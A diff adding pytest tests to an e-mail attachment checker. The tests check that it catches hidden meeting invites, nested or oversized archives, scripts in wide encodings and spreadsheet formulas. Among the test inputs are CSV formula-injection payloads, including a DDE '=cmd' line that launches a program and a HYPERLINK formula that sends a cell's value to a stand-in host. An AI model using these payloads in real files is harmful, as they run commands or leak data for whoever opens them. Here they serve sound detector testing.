@@ -6,7 +6,7 @@ from mailer.checks.attachments import check_attachment, check_total
 from mailer.checks.attachments.files import Allowance, File, Spent
 from mailer.checks.attachments.packages import Package
 from mailer.findings import Place
-from tests.documents import CLEAN, PROGRAM, docx, docx_with, ole, pdf, xlsx, zipped
+from tests.documents import CLEAN, PROGRAM, docx, docx_with, mail, ole, pdf, xlsx, zipped
 
 PLACE = Place(file="releases/proef.toml", line=7)
 ICS = b"BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\n"
@@ -110,6 +110,66 @@ def test_i23_a_meeting_request_stops_wherever_it_is(file: str, content: bytes) -
     assert "calendar" in _codes(file, content)
 
 
+CLASS = "__substg1.0_001A001F"
+INVITATION = b"MIME-Version: 1.0\r\nContent-Type: text/calendar\r\n\r\n" + ICS
+FORWARDED = "__attach_version1.0_#00000000/__substg1.0_3701000D"
+
+
+def _item(kind: str, inside: str = "") -> list[tuple[str, bytes]]:
+    below = f"{inside}/" if inside else ""
+    written = f"IPM.{kind}\0".encode("utf-16-le")
+    return [(f"{below}__properties_version1.0", b"x"), (f"{below}{CLASS}", written)]
+
+
+@pytest.mark.parametrize(
+    ("file", "content"),
+    [
+        ("a.msg", ole(*_item("Note"), *_item("Schedule.Meeting.Request", FORWARDED))),
+        ("a.eml", mail(("application/octet-stream", ICS))),
+        ("a.eml", mail(("message/rfc822", INVITATION))),
+        ("a.eml", mail(*[("text/plain", b"x")] * 498, ("text/calendar", ICS))),
+        ("a.txt", b" " * 5_000 + b"\r\n" * 5_000 + ICS),
+        ("a.txt", ICS.decode().encode("utf-16-le")),
+        ("a.txt", ("\n " + ICS.decode()).encode("utf-16-be")),
+        ("a.txt", ICS.decode().encode("utf-32")),
+        ("a.txt", ICS.decode().encode("utf-32-be")),
+    ],
+)
+def test_i23_a_meeting_request_stops_however_it_is_wrapped(file: str, content: bytes) -> None:
+    """Inside another item, in a part without a name, in base64, behind blanks, in wide letters."""
+    assert _codes(file, content) == ["calendar"]
+
+
+@pytest.mark.parametrize(
+    ("file", "content"),
+    [
+        ("a.msg", ole(*_item("Note"), *_item("Note", FORWARDED))),
+        ("a.eml", mail(("text/plain", b"Dag allen"), ("text/html", b"<html><p>Dag</p></html>"))),
+        ("a.eml", mail(("message/rfc822", b"MIME-Version: 1.0\r\n\r\nDag BEGIN:VCALENDAR"))),
+        ("a.txt", "Dag allen, tot vrijdag.".encode("utf-16-le")),
+    ],
+)
+def test_a_forwarded_mail_that_invites_nobody_is_left_alone(file: str, content: bytes) -> None:
+    """The same wrappings around what is only a text."""
+    assert _codes(file, content) == []
+
+
+def test_i23_what_is_not_looked_at_in_a_mail_is_told() -> None:
+    """A mail of more parts than are looked at, or of parts in parts without end."""
+    parts = [("text/plain", b"x")] * 600
+    assert _codes("a.eml", mail(*parts, ("text/calendar", ICS))) == ["closed"]
+    nested = (f"Content-Type: multipart/mixed; boundary=b{n}\n\n--b{n}\n" for n in range(1_000))
+    assert _codes("a.eml", ("MIME-Version: 1.0\n" + "".join(nested)).encode()) == ["closed"]
+
+
+def test_i24_a_part_of_a_mail_without_a_name_is_looked_into() -> None:
+    """The finding says which part it is."""
+    content = mail(("text/plain", b"Dag"), ("application/octet-stream", COMMENTED))
+    (found,) = check_attachment("a.eml", content, PLACE)
+    assert found.code == "attachment-comments"
+    assert "3" in found.message
+
+
 def test_an_ordinary_mail_as_attachment_is_looked_into() -> None:
     """Its text is nobody's meeting; the files in it are checked as if attached themselves."""
     head = b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
@@ -158,6 +218,28 @@ def test_i29_archives_deeper_than_sense_are_not_followed() -> None:
     assert _codes("a.zip", content) == ["closed"]
 
 
+def test_i29_archives_of_many_small_files_end() -> None:
+    """What is left over after the work an attachment is worth is told, once."""
+    inner = zipped({f"{number}.txt": "x" for number in range(2_000)})
+    assert "closed" in _codes("a.zip", zipped({f"{number}.zip": inner for number in range(20)}))
+    file = File(name="a", content=inner, own_name="a", allowance=Allowance(1_000_000))
+    with pytest.raises(Spent):
+        Package(file)
+
+
+def test_two_files_of_the_same_name_in_a_zip_are_told() -> None:
+    """One program opens the first of them, another the last."""
+    content = zipped({"word/document1.xml": CLEAN, "word/document2.xml": CLEAN})
+    assert _codes("a.zip", content) == []
+    assert _codes("a.zip", content.replace(b"document2", b"document1")) == ["closed"]
+
+
+def test_a_file_without_a_name_in_a_zip_is_looked_into() -> None:
+    """A name that begins with NUL is read as none."""
+    content = zipped({"a.bin": PROGRAM, "b.docx": COMMENTED}).replace(b"a.bin", b"\0.bin")
+    assert _codes("a.zip", content) == ["executable", "comments"]
+
+
 @pytest.mark.parametrize(
     "entity",
     [
@@ -200,6 +282,54 @@ def test_scripts_in_pages_and_drawings_are_found() -> None:
     assert _codes("a.html", b"<html><script>x</script></html>") == ["active"]
     assert _codes("a.svg", b'<svg xmlns="x" onload="y()"/>') == ["active"]
     assert _codes("a.html", b"<html><p>Inschrijving op maandag</p></html>") == []
+
+
+@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-32", "utf-32-be"])
+def test_scripts_in_wide_letters_are_found(encoding: str) -> None:
+    """With a mark at the start or without."""
+    page = "<html><p>Dag</p>{}</html>"
+    assert _codes("a.html", page.format("<script>x</script>").encode(encoding)) == ["active"]
+    assert _codes("a.svg", "<svg onload='x'/>".encode(encoding)) == ["active"]
+    assert _codes("a.html", page.format("").encode(encoding)) == []
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "=cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        '"=HYPERLINK(""https://x.example/?""&A1)"',
+        "@SUM(A1:A9)",
+        "= SOM(A1)",
+        "=A1+1",
+        '="a"&HYPERLINK("x")',
+    ],
+)
+def test_i29_a_formula_in_a_table_of_text_is_told(cell: str) -> None:
+    """Excel runs it for whoever opens the file; in a text that is no table it is text."""
+    for table in (f"naam;bedrag\n{cell};1\n", f"naam\tbedrag\r\nA\t{cell}\r\n"):
+        assert _codes("a.csv", table.encode()) == ["active"]
+        assert _codes("a.csv", table.encode("utf-16")) == ["active"]
+        assert _codes("a.txt", table.encode()) == []
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        '="0612"',
+        '"=""0612"""',
+        "-5",
+        "+31 592 36 55 55",
+        "-naam (x)",
+        "=",
+        "== x ==",
+        "= 12",
+        "@emmen",
+    ],
+)
+def test_a_cell_that_only_begins_like_a_formula_is_left_alone(cell: str) -> None:
+    """Numbers, rules of signs, and the way to keep a leading zero."""
+    assert _codes("a.csv", f"{cell};tekst a=b;{cell}\n{cell}".encode()) == []
 
 
 def test_attachments_together_stay_below_the_limit() -> None:
